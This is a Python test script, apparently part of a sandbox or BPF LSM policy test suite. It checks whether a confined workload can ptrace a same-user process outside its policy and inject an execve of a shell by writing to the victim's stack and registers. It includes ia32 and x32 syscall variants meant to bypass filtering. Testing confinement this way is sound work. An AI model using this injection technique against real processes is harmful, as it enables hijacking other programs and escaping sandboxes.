# the workload (uid nobody, no capabilities) attaches with ptrace to a process of the same user that
# the policy does not select (VICTIM_PID: `sleep` outside the workload's cgroup) and has it run the
# shell: an execve written into its registers at the syscall instruction it is sleeping in. Done in
# a child, because where BPF LSM is missing the fallback kills the task that attaches. x86-64 only.
import ctypes, time
from _common import *

if os.uname().machine != "x86_64":
    print(json.dumps({"through": False, "detail": f"register injection is written for x86-64, not {os.uname().machine}", "unsupported": True}), flush=True)
    sys.exit(0)
yama_refuses("attach")
if IA32:
    ia32_syscall(20)  # unsupported unless 32-bit syscalls work here
if X32:
    x32_syscall(39)  # unsupported unless x32 syscalls work here
VICTIM = int(os.environ["VICTIM_PID"])
PTRACE_PEEKTEXT, PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_DETACH = 1, 5, 12, 13, 17
PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207
NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def pt(req, addr=None, data=None, what=""):
    ctypes.set_errno(0)
    r = libc.ptrace(req, VICTIM, addr, data)
    e = ctypes.get_errno()
    if r == -1 and e:
        raise OSError(e, f"{what or req}: {errno.errorcode.get(e, e)}")
    return r


def inject():
    if IA32:  # the attach as a 32-bit syscall (ia32 ptrace is 26); the rest as usual
        ia32_check(ia32_syscall(26, PTRACE_SEIZE, VICTIM), "ptrace(PTRACE_SEIZE)")
    elif X32:  # the attach as an x32 syscall (x32's ptrace is 521)
        ia32_check(x32_syscall(521, PTRACE_SEIZE, VICTIM), "ptrace(PTRACE_SEIZE)", "x32")
    else:
        pt(PTRACE_SEIZE, what="ptrace(PTRACE_SEIZE)")
    pt(PTRACE_INTERRUPT, what="ptrace(PTRACE_INTERRUPT)")
    os.waitpid(VICTIM, 0x40000000)  # __WALL: a tracee that is not our child
    regs = Regs()
    pt(PTRACE_GETREGS, None, ctypes.addressof(regs), "ptrace(PTRACE_GETREGS)")
    if pt(PTRACE_PEEKTEXT, regs.rip - 2, None, "peek") & 0xFFFF != 0x050F:
        return "the victim is not stopped right after a syscall instruction"
    # "/bin/sh", "-c", the command, then argv[] (NULL-terminated), below its stack's red zone
    strs = [b"/bin/sh\0", b"-c\0", SHELL_CMD.encode() + b"\0"]
    base = (regs.rsp - 8192) & ~0xF
    blob, ptrs = b"", []
    for s in strs:
        ptrs.append(base + len(blob))
        blob += s
    blob += b"\0" * (-len(blob) % 8)
    argv = base + len(blob)
    blob += b"".join(p.to_bytes(8, "little") for p in ptrs) + bytes(8)
    for i in range(0, len(blob), 8):
        pt(PTRACE_POKEDATA, base + i, int.from_bytes(blob[i:i + 8], "little"), "ptrace(PTRACE_POKEDATA)")
    regs.rip -= 2
    regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF  # execve; no syscall restart
    regs.rdi, regs.rsi, regs.rdx = ptrs[0], argv, 0
    pt(PTRACE_SETREGS, None, ctypes.addressof(regs), "ptrace(PTRACE_SETREGS)")
    pt(PTRACE_DETACH, what="ptrace(PTRACE_DETACH)")
    return "attached, execve injected"


said, how = in_child(inject)
# the victim's shell writes the marker once it runs (a moment, longer in a TCG guest)
for _ in range(200 if "injected" in said else 0):
    if marker():
        break
    time.sleep(0.05)
report(marker() or said.startswith("attached"), f"ptrace of pid {VICTIM} (outside the policy): child {said or 'said nothing'}, {how}")
